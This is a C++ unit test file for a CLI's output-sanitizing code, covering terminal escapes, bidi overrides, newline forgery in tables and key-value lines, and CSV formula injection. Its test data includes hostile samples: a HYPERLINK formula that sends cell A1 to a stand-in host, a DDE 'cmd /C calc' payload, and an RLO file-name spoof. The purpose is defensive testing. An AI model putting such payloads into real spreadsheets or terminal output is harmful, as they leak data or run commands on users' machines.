// What the CLI prints is safe to show (SPEC §9): terminal control
// sequences are neutralized (clients/printable.h), tables and "key: value"
// lines cannot be forged with a newline, and csv cells cannot run as
// spreadsheet formulas (clients/cmd_audit.h).
#include "clients/printable.h"

#include <sstream>
#include <string>
#include <vector>

#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <nlohmann/json.hpp>

#include "clients/cli.h"
#include "clients/cmd_audit.h"

namespace taskgate::clients::cli {
namespace {

using ::testing::ElementsAre;
using ::testing::HasSubstr;
using ::testing::Not;

std::vector<std::string> Lines(const std::string& text) {
  std::vector<std::string> lines;
  std::istringstream in(text);
  for (std::string line; std::getline(in, line);) lines.push_back(line);
  return lines;
}

TEST(Printable, ShowsControlsAndBidiOverridesAsEscapes) {
  EXPECT_EQ(Printable("plain 中文 text"), "plain 中文 text");
  EXPECT_EQ(Printable("\x1b[2J\x1b]0;owned\x07"),
            "\\u001b[2J\\u001b]0;owned\\u0007");
  EXPECT_EQ(Printable("a\rb\x7f"
                      "c\xC2\x9B"
                      "d"),
            "a\\u000db\\u007fc\\u009bd");
  EXPECT_EQ(Printable("invoice\xE2\x80\xAEgpj.exe"), "invoice\\u202egpj.exe");
  EXPECT_EQ(Printable("\xE2\x81\xA6x\xE2\x81\xA9"), "\\u2066x\\u2069");
  EXPECT_EQ(Printable("bad \xff byte"), "bad \\xff byte");
  // A line of a table or a "key: value" is one line; prose keeps its lines.
  EXPECT_EQ(Printable("one\ntwo\tthree"), "one\\u000atwo\\u0009three");
  EXPECT_EQ(Printable("one\ntwo\tthree", /*multiline=*/true),
            "one\ntwo\tthree");
}

std::string ThroughStream(const std::vector<std::string>& writes) {
  std::ostringstream target;
  {
    PrintableStream out(target);
    for (const std::string& w : writes) out << w;
  }
  return target.str();
}

TEST(PrintableStream, NeutralizesWhatIsWrittenKeepingLinesAndCrlf) {
  EXPECT_EQ(ThroughStream({"title: \x1b[31mred\x1b[0m\n", "next line\n"}),
            "title: \\u001b[31mred\\u001b[0m\nnext line\n");
  // CRLF ends a csv record; a lone CR, which would overwrite the line, is
  // shown.
  EXPECT_EQ(ThroughStream({"a,b\r\n", "c\rd\r"}), "a,b\r\nc\\u000dd\\u000d");
  EXPECT_EQ(ThroughStream({"a\r", "\nb"}), "a\r\nb");
}

TEST(PrintableStream, PutsCharactersSplitAcrossWritesTogether) {
  // "中" is E4 B8 AD; U+202E is E2 80 AE.
  EXPECT_EQ(ThroughStream({"\xE4", "\xB8", "\xAD!"}), "中!");
  EXPECT_EQ(ThroughStream({"x\xE2\x80",
                           "\xAE"
                           "y"}),
            "x\\u202ey");
  // A sequence that never completes is shown byte by byte.
  EXPECT_EQ(ThroughStream({"\xE4\xB8", "a"}), "\\xe4\\xb8a");
  EXPECT_EQ(ThroughStream({"end\xE4"}), "end\\xe4");
}

TEST(PrintableStream, JsonStaysJsonThatMeansTheSame) {
  const std::string title =
      "a\xE2\x80\xAE"
      "b\x7f"
      "c\xC2\x85"
      "d\x1b";
  const nlohmann::json doc = {{"title", title}};
  const std::string shown = ThroughStream({doc.dump(2)});
  EXPECT_THAT(shown, Not(HasSubstr("\xE2\x80\xAE")));
  EXPECT_THAT(shown, Not(HasSubstr("\x7f")));
  EXPECT_EQ(nlohmann::json::parse(shown)["title"], title);
}

TEST(Table, ACellCannotForgeARow) {
  Table t({"ID", "TITLE"});
  t.Add({"t-1", "visits\nt-forged  approved"});
  t.Add({"t-2", "tab\there"});
  std::ostringstream out;
  t.Print(out);
  const std::vector<std::string> lines = Lines(out.str());
  ASSERT_EQ(lines.size(), 3u) << out.str();
  EXPECT_THAT(lines[1], HasSubstr("visits\\u000at-forged  approved"));
  EXPECT_THAT(lines[2], HasSubstr("tab\\u0009here"));
}

TEST(PrintTaskDetails, AValueCannotForgeAKey) {
  v1::Task task;
  task.set_id("t-1");
  task.set_state(v1::TASK_STATE_DRAFT);
  task.mutable_spec()->set_title("visits\nstate: ACTIVE");
  std::ostringstream out;
  PrintTaskDetails(out, task);
  std::vector<std::string> states;
  for (const std::string& line : Lines(out.str())) {
    if (line.rfind("state:", 0) == 0) states.push_back(line);
  }
  EXPECT_THAT(states, ElementsAre("state: DRAFT"));
  EXPECT_THAT(out.str(), HasSubstr("title: visits\\u000astate: ACTIVE\n"));
}

TEST(EventsCsv, CellsThatWouldRunAsFormulasStartWithAQuote) {
  std::vector<v1::AuditEvent> events(1);
  v1::AuditEvent& e = events[0];
  e.set_seq(7);
  e.set_actor_id("rev-1");
  e.set_action("task.reject");
  e.set_reason("=HYPERLINK(\"http://x.example/?\"&A1,\"details\")");
  e.set_request_id("@SUM(1+1)");
  e.set_state_before("-2+3");
  e.set_state_after("+cmd|' /C calc'!A0");
  e.set_entity_id("\tx");
  e.set_department_id("plain=not-a-formula");
  const std::string csv = EventsCsv(events);
  const std::vector<std::string> lines = Lines(csv);
  ASSERT_EQ(lines.size(), 2u) << csv;
  const std::string& row = lines[1];
  EXPECT_THAT(row, HasSubstr(",\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,"
                             "\"\"details\"\")\","));
  EXPECT_THAT(row, HasSubstr(",'@SUM(1+1),"));
  EXPECT_THAT(row, HasSubstr(",'-2+3,"));
  EXPECT_THAT(row, HasSubstr(",'+cmd|' /C calc'!A0,"));
  EXPECT_THAT(row, HasSubstr(",'\tx,"));
  EXPECT_THAT(row, HasSubstr(",plain=not-a-formula,"));
  // No field of the row starts with a formula character.
  EXPECT_THAT(row, Not(::testing::ContainsRegex(",[=+@-]")));
}

}  // namespace
}  // namespace taskgate::clients::cli
